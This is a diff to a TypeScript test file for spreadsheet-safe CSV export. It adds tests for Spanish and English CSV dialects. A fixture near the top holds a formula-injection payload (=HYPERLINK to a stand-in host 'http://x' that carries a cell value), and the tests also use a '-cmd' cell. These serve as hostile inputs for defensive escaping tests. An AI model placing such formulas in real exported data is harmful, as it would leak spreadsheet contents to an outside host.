@@ -1,7 +1,7 @@
 /** Spreadsheet-safe CSV (web/src/i18n/csv-text.ts): formula-like text cells get a `'` in front, numbers stay numbers. */
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
-import { csvCell, csvText, isFormulaLike } from '../../../../web/src/i18n/csv-text.js'
+import { csvCell, csvText, isFormulaLike, spreadsheetCsv } from '../../../../web/src/i18n/csv-text.js'
 
 const HYPERLINK = '=HYPERLINK("http://x/?d="&B2,"ver")'
 
@@ -52,5 +52,24 @@ describe('CSV cells a spreadsheet would run', () => {
       ]),
       `patient,value\r\n"'=HYPERLINK(""http://x/?d=""&B2,""ver"")",-1.5\r\n'-cmd,2.5e-3\r\n`,
     )
+  })
+
+  test("dialects: Spanish spreadsheet (BOM, ';', decimal comma), English spreadsheet (BOM, ',', '.'); numbers given as numbers only", () => {
+    const rows = [
+      ['paciente', 'valor'],
+      ['Núñez; José', -1.25],
+      ['1.5', 2.5e-3],
+      ['-cmd', null],
+    ]
+    assert.equal(
+      csvText(rows, spreadsheetCsv('es')),
+      `\ufeffpaciente;valor\r\n"Núñez; José";-1,25\r\n1.5;0,0025\r\n'-cmd;\r\n`,
+    )
+    assert.equal(
+      csvText(rows, spreadsheetCsv('en')),
+      `\ufeffpaciente,valor\r\n"Núñez; José",-1.25\r\n1.5,0.0025\r\n'-cmd,\r\n`,
+    )
+    assert.equal(csvText(rows), `paciente,valor\r\n"Núñez; José",-1.25\r\n1.5,0.0025\r\n'-cmd,\r\n`)
+    assert.equal(csvCell(Number.NaN), '')
   })
 })
